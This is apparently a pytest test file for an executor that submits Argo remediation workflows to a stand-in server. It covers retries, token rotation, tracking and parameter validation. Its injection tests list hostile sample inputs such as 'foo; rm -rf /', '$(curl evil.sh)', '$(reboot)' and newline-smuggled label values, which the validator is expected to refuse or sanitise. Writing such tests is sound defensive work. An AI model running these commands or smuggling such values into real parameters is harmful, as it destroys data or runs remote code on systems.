"""The Argo executor against the stand-in Argo Server, through the real SDK."""

from __future__ import annotations

import logging
import re
from pathlib import Path

import pytest

from remediator.executors.argo import (
    ArgoConfig,
    ArgoExecutor,
    ArgoUnavailable,
    Backoff,
    SubmitRejected,
    TrackTimeout,
)
from remediator.executors.argo_params import workflow_name
from remediator.executors.protocol import Submit, Unavailable
from remediator.executors.secrets import MissingSecret
from remediator.executors.validate import InvalidParameter
from tests.executors.conftest import POD_UID, TOKEN, config_for, delete_decision
from tests.standins.argo_server import ArgoStandin


async def test_submit_creates_workflow_from_template(
    argo: ArgoStandin, executor: ArgoExecutor
) -> None:
    decision = delete_decision()
    submitted = await executor.submit(decision)

    assert submitted.created is True
    assert submitted.name == workflow_name(decision)
    assert submitted.url == f"https://argo.example/workflows/argo/{submitted.name}"
    (request,) = argo.submitted()
    assert request.path == "/api/v1/workflows/argo/submit"
    assert request.authorization == f"Bearer {TOKEN}"
    assert request.body["resourceKind"] == "WorkflowTemplate"
    assert request.body["resourceName"] == "delete-stuck-inference-pod"
    wf = argo.workflows[submitted.name]
    labels = wf["metadata"]["labels"]
    assert labels["remediator.io/incident"] == decision.incident
    assert labels["remediator.io/action"] == "delete-pod"
    args = {p["name"]: p["value"] for p in wf["spec"]["arguments"]["parameters"]}
    assert args["uid"] == POD_UID
    assert args["pod"] == "vllm-llama-70b-0"
    assert args["workload"] == "inference.statefulset.vllm-llama-70b"
    assert args["reason"] == decision.reason
    # the stored template came out fully resolved: the step gets the real UID
    stored = wf["status"]["storedWorkflowTemplateSpec"]
    assert POD_UID in stored["templates"][0]["container"]["args"]
    assert stored["synchronization"]["mutexes"][0]["name"] == (
        "workload-inference.statefulset.vllm-llama-70b"
    )
    assert argo.problems == []


async def test_submit_accepts_201_as_well(argo: ArgoStandin, executor: ArgoExecutor) -> None:
    argo.submit_status = 201
    assert (await executor.submit(delete_decision())).created is True


async def test_duplicate_submit_gets_409_and_counts_as_done(
    argo: ArgoStandin, executor: ArgoExecutor
) -> None:
    first = await executor.submit(delete_decision())
    again = await executor.submit(delete_decision())

    assert again.created is False
    assert again.name == first.name
    assert len(list(argo.submitted())) == 2
    assert len(argo.workflows) == 1


async def test_5xx_is_retried_then_succeeds(argo: ArgoStandin, executor: ArgoExecutor) -> None:
    argo.fail_next(503, 502)
    submitted = await executor.submit(delete_decision())

    assert submitted.created is True
    assert len(list(argo.submitted())) == 3


async def test_5xx_gives_up_after_bounded_attempts(
    argo: ArgoStandin, executor: ArgoExecutor
) -> None:
    argo.fail_next(503, 503, 503, 503)
    with pytest.raises(ArgoUnavailable, match=r"gave up after 3 attempts \(503: injected 503\)"):
        await executor.submit(delete_decision())
    assert len(list(argo.submitted())) == 3
    assert argo.workflows == {}


async def test_unreachable_server_is_retryable_then_unavailable(token_file: Path) -> None:
    with ArgoStandin(token=TOKEN) as argo:
        config = config_for(argo, token_file)
    # the stand-in is closed now: nothing listens on that port
    executor = ArgoExecutor(config, backoff=Backoff(attempts=2, initial_s=0.01))
    with pytest.raises(ArgoUnavailable, match="gave up after 2 attempts"):
        await executor.submit(delete_decision())


async def test_unknown_template_is_a_permanent_failure(
    argo: ArgoStandin, executor: ArgoExecutor
) -> None:
    del argo.templates["delete-stuck-inference-pod"]
    with pytest.raises(SubmitRejected, match=r"\(404\).*delete-stuck-inference-pod.*not found"):
        await executor.submit(delete_decision())
    assert len(list(argo.submitted())) == 1  # not retried


async def test_wrong_token_is_a_permanent_failure_and_not_logged(
    argo: ArgoStandin, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    wrong = tmp_path / "wrong"
    wrong.write_text("not-the-token-93b1")
    executor = ArgoExecutor(config_for(argo, wrong), backoff=Backoff(initial_s=0.01))
    caplog.set_level(logging.DEBUG)
    with pytest.raises(SubmitRejected, match=r"\(401\).*token not valid") as err:
        await executor.submit(delete_decision())
    assert "not-the-token-93b1" not in str(err.value)
    assert "not-the-token-93b1" not in caplog.text
    assert len(list(argo.submitted())) == 1


async def test_a_401_through_carry_is_worth_a_retry(argo: ArgoStandin, tmp_path: Path) -> None:
    """Issue 10 #9: the runtime retries a 401 (a token being rotated) instead of failing."""
    wrong = tmp_path / "wrong"
    wrong.write_text("not-the-token-93b1")
    executor = ArgoExecutor(config_for(argo, wrong), backoff=Backoff(initial_s=0.01))
    out = await executor.carry(Submit(delete_decision()))
    assert isinstance(out, Unavailable) and out.unauthorized
    assert "401" in out.reason and "not-the-token-93b1" not in out.reason


def test_missing_token_is_refused_at_start(argo: ArgoStandin, tmp_path: Path) -> None:
    config = ArgoConfig(
        host=argo.url,
        token_env="REMEDIATOR_TEST_UNSET_ARGO_TOKEN",
        token_file=str(tmp_path / "absent"),
    )
    with pytest.raises(MissingSecret, match="cannot be read"):
        ArgoExecutor(config)


async def test_token_file_is_reread_when_rotated(argo: ArgoStandin, tmp_path: Path) -> None:
    path = tmp_path / "token"
    path.write_text("old-token")
    executor = ArgoExecutor(config_for(argo, path), backoff=Backoff(initial_s=0.01))
    path.write_text(TOKEN)
    assert (await executor.submit(delete_decision())).created is True


async def test_track_follows_to_succeeded(argo: ArgoStandin, executor: ArgoExecutor) -> None:
    submitted = await executor.submit(delete_decision())
    ended = await executor.track(submitted.name, timeout_s=30)

    assert ended.phase == "Succeeded"
    assert ended.started_at == "2024-05-01T10:00:00Z"
    assert ended.finished_at == "2024-05-01T10:01:30Z"
    gets = [r for r in argo.requests if r.method == "GET"]
    assert len(gets) == 3  # Pending, Running, Succeeded


async def test_track_follows_to_failed_with_message(
    argo: ArgoStandin, executor: ArgoExecutor
) -> None:
    decision = delete_decision()
    argo.script(workflow_name(decision), "Pending", "Running", "Failed", message="child 'x' failed")
    submitted = await executor.submit(decision)
    ended = await executor.track(submitted.name, timeout_s=30)

    assert ended.phase == "Failed"
    assert ended.message == "child 'x' failed"


async def test_track_retries_5xx_while_polling(argo: ArgoStandin, executor: ArgoExecutor) -> None:
    submitted = await executor.submit(delete_decision())
    argo.fail_next(500)
    assert (await executor.track(submitted.name, timeout_s=30)).phase == "Succeeded"


async def test_track_times_out_on_a_workflow_that_never_ends(
    argo: ArgoStandin, executor: ArgoExecutor
) -> None:
    decision = delete_decision()
    argo.script(workflow_name(decision), "Running")
    submitted = await executor.submit(decision)
    with pytest.raises(TrackTimeout, match="still Running"):
        await executor.track(submitted.name, timeout_s=0.05)


async def test_track_of_unknown_workflow_is_a_clear_error(executor: ArgoExecutor) -> None:
    with pytest.raises(SubmitRejected, match=r"\(404\).*not found"):
        await executor.track("delete-pod-nothing-0123456789")


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"target": "foo; rm -rf /"}, "pod"),
        ({"target": "$(curl evil.sh)"}, "pod"),
        ({"namespace": "inference\nkube-system"}, "namespace"),
        ({"uid": "0f1e2d3c; rm -rf"}, "uid"),
        ({"uid": None}, "uid"),
        ({"incident": "inc,remediator.io/action=cordon-node"}, "incident"),
        ({"workload": "inference/StatefulSet/x;y"}, "workload"),
        ({"params": (("image", "x"),)}, "image"),  # not a delete-pod parameter
    ],
)
async def test_injection_is_refused_before_anything_is_sent(
    argo: ArgoStandin, executor: ArgoExecutor, overrides: dict[str, object], field: str
) -> None:
    with pytest.raises(InvalidParameter, match=field):
        await executor.submit(delete_decision(**overrides))
    assert argo.requests == []


@pytest.mark.parametrize(
    "reason",
    [
        "slow $(reboot)",
        "slow\nremediator.io/x=y",
        "{{workflow.parameters.uid}}",
        "engine_init for 80s; deleting it gives the engine a fresh start",
        "image v0.6.3 → v0.6.4 'quoted' `tick`",
    ],
)
async def test_free_text_reason_is_made_safe_not_refused(
    argo: ArgoStandin, executor: ArgoExecutor, reason: str
) -> None:
    await executor.submit(delete_decision(reason=reason))
    (request,) = argo.requests
    sent = dict(p.split("=", 1) for p in request.body["submitOptions"]["parameters"])["reason"]
    assert not any(c in sent for c in "$;\n{}'`→")
    # what people read survives: every plain word of the reason is still there
    assert all(word in sent for word in re.findall(r"[A-Za-z0-9_.]{3,}", reason))


@pytest.mark.parametrize(
    "image",
    ["nginx;rm -rf /", "ghcr.io/x/y:$(id)", "ghcr.io/x/y:1.0\n", "ghcr.io/x/y:1.0 --privileged"],
)
async def test_bad_image_reference_is_refused(
    argo: ArgoStandin, executor: ArgoExecutor, image: str
) -> None:
    decision = delete_decision(
        action="restart-warmup",
        namespace="kube-system",
        target="gpu-warmup",
        uid=None,
        workload=None,
        params=(("image", image),),
    )
    with pytest.raises(InvalidParameter, match="image"):
        await executor.submit(decision)
    assert argo.requests == []


async def test_restart_warmup_carries_image_and_timeout(
    argo: ArgoStandin, executor: ArgoExecutor
) -> None:
    image = "registry.example:5000/models/vllm-llama-70b@sha256:" + "a" * 64
    decision = delete_decision(
        action="restart-warmup",
        namespace="kube-system",
        target="gpu-warmup",
        uid=None,
        workload=None,
        incident="model-update-inference-vllm-llama-70b-7",
        params=(("image", image), ("timeout", "900")),
    )
    submitted = await executor.submit(decision)
    stored = argo.workflows[submitted.name]["status"]["storedWorkflowTemplateSpec"]
    with_image = next(t for t in stored["templates"] if t["name"] == "rollout-restart-with-image")
    assert with_image["container"]["args"][-4:] == ["--image", image, "--timeout", "900"]
    assert argo.problems == []


async def test_notify_runs_no_workflow(argo: ArgoStandin, executor: ArgoExecutor) -> None:
    with pytest.raises(InvalidParameter, match="runs no workflow"):
        await executor.submit(delete_decision(action="notify"))
    assert argo.requests == []


@pytest.mark.parametrize(
    ("overrides", "template"),
    [
        ({}, "delete-stuck-inference-pod"),
        (
            {"action": "restart-warmup", "namespace": "kube-system", "target": "gpu-warmup"},
            "restart-gpu-warmup",
        ),
        (
            {
                "action": "verify-gpu-memory",
                "namespace": "",
                "target": "",
                "params": (("samples", "20"), ("max-spread-mib", "512")),
            },
            "verify-gpu-memory-stability",
        ),
        ({"action": "cordon-node", "namespace": "", "target": "gpu-node-7"}, "cordon-gpu-node"),
    ],
)
async def test_every_action_submits_what_its_template_declares(
    argo: ArgoStandin, executor: ArgoExecutor, overrides: dict[str, object], template: str
) -> None:
    # The stand-in refuses parameters a template does not declare and required
    # ones left out, and validates the resulting Workflow against the schema.
    submitted = await executor.submit(delete_decision(**overrides))

    assert submitted.template == template
    assert argo.workflows[submitted.name]["spec"]["workflowTemplateRef"] == {"name": template}
    assert argo.problems == []
